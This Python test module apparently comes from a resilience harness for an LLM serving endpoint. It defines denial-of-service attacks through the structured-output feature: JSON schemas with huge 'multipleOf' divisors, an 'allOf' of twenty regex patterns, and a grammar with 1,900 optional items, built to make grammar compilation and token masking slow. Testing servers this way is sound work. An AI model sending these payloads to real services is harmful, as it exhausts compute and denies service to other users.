"""Attacks by grammars that take long to compile, or whose masks take long (hostile.py)."""

import string
from typing import Any

from hostile_peers import CHAT, Attack, Peer, chat

LEAVE = 2.0
"""Seconds after which a client leaves, and comes again."""
DIVISOR, ROUND_DIVISOR, DIVISOR_OF_EIGHT = 9_999_991, 1_000_000, 300_007
PATTERNS, OPTIONAL, ANSWERS = 20, 1_900, 8


def multiples(divisor: int, **more: Any) -> bytes:
    schema = {"type": "integer", "multipleOf": divisor}
    return structured(schema, **more)


def structured(schema: dict[str, Any], **more: Any) -> bytes:
    form = {"type": "json_schema", "json_schema": {"name": "answer", "schema": schema}}
    return chat(response_format=form, **more)


async def prime(peer: Peer) -> None:
    await peer.post(CHAT, multiples(DIVISOR), leave=LEAVE)


async def round_number(peer: Peer) -> None:
    await peer.post(CHAT, multiples(ROUND_DIVISOR))


async def all_patterns(peer: Peer) -> None:
    """An automaton with a state for each set of the patterns' characters."""
    patterns = [{"pattern": f".*{letter}.*"} for letter in string.ascii_letters[:PATTERNS]]
    await peer.post(CHAT, structured({"type": "string", "allOf": patterns}))


async def eight_samplers(peer: Peer) -> None:
    await peer.post(CHAT, multiples(DIVISOR_OF_EIGHT, n=ANSWERS, max_tokens=8))


async def many_optional(peer: Peer) -> None:
    """A context-free grammar with very many parses of each prefix, so each mask takes long."""
    lark = f'start: {"a? " * OPTIONAL}\na: "a"\n'
    form = {"type": "grammar", "grammar": lark}
    await peer.post(CHAT, chat(response_format=form, n=ANSWERS, max_tokens=8))


ATTACKS: dict[str, Attack] = {
    "grammar_compile": Attack({prime: 4, round_number: 1, all_patterns: 1}, probe="structured"),
    "grammar_masks": Attack({eight_samplers: 1, many_optional: 1}, probe="structured"),
}
